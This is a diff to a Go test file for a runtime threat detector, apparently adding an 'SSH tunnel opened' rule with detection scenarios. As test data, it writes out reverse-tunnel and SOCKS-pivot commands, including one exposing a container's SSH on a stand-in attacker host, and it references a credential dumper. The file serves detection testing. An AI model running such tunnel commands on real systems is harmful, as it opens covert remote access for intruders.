@@ -156,6 +156,7 @@ func scenarios() []scenario {
 		kubePKI     = "Kubernetes cluster credentials read"
 		rawMem      = "Kernel or physical memory opened"
 		memRead     = "Process memory read through proc"
+		sshTunnel   = "SSH tunnel opened"
 		envRead     = "Another process's environment read"
 	)
 	s := []scenario{}
@@ -733,6 +734,20 @@ func scenarios() []scenario {
 			evs(openEv(proc("x", "/tmp/x", "./x"), "openat", "/dev/mem", oRDWR, inCtr, failed("EPERM", 1))), nil},
 		scenario{"dmidecode reading firmware tables is not", rawMem, false, evs(readEv(proc("dmidecode", "/usr/sbin/dmidecode", "dmidecode"), "/dev/mem")), nil},
 		scenario{"reading /proc/meminfo is not", rawMem, false, evs(readEv(catP, "/proc/meminfo")), nil},
+	)
+	add(
+		scenario{"ssh -fNR exposing the inside's SSH on the attacker's host", sshTunnel, true,
+			evs(execEv(proc("ssh", "/usr/bin/ssh", "ssh", "-fNR", "2222:localhost:22", "tunnel@203.0.113.9"), inCtr)), nil},
+		scenario{"ssh -D as a SOCKS pivot", sshTunnel, true,
+			evs(execEv(proc("ssh", "/usr/bin/ssh", "ssh", "-N", "-D", "1080", "user@10.0.0.9"))), nil},
+		scenario{"autossh -R8080:localhost:80 with an attached argument", sshTunnel, true,
+			evs(execEv(proc("autossh", "/usr/bin/autossh", "autossh", "-M", "0", "-R8080:localhost:80", "u@h"))), nil},
+		scenario{"git over ssh is not", sshTunnel, false,
+			evs(execEv(proc("ssh", "/usr/bin/ssh", "ssh", "-o", "SendEnv=GIT_PROTOCOL", "git@github.com", "git-upload-pack 'org/repo.git'"))), nil},
+		scenario{"ssh with a key file whose name has an R is not", sshTunnel, false,
+			evs(execEv(proc("ssh", "/usr/bin/ssh", "ssh", "-i", "/root/.ssh/DEPLOY_R", "deploy@10.0.0.5", "uptime"))), nil},
+		scenario{"a local forward (-L) is not", sshTunnel, false,
+			evs(execEv(proc("ssh", "/usr/bin/ssh", "ssh", "-L", "5432:db:5432", "bastion"))), nil},
 	)
 	dumper := proc("python3", "/usr/bin/python3", "python3", "mimipenguin.py")
 	add(
@@ -1391,6 +1406,7 @@ var wantType = map[string]string{
 	"Kubernetes cluster credentials read":                         "CredentialAccess:Runtime/ClusterCredentialsRead",
 	"Kernel or physical memory opened":                            "CredentialAccess:Runtime/KernelMemoryAccessed",
 	"Process memory read through proc":                            "CredentialAccess:Runtime/ProcessMemoryRead",
+	"SSH tunnel opened":                                           "Execution:Runtime/SuspiciousTool",
 	"Another process's environment read":                          "CredentialAccess:Runtime/ProcessEnvironmentRead",
 }
 
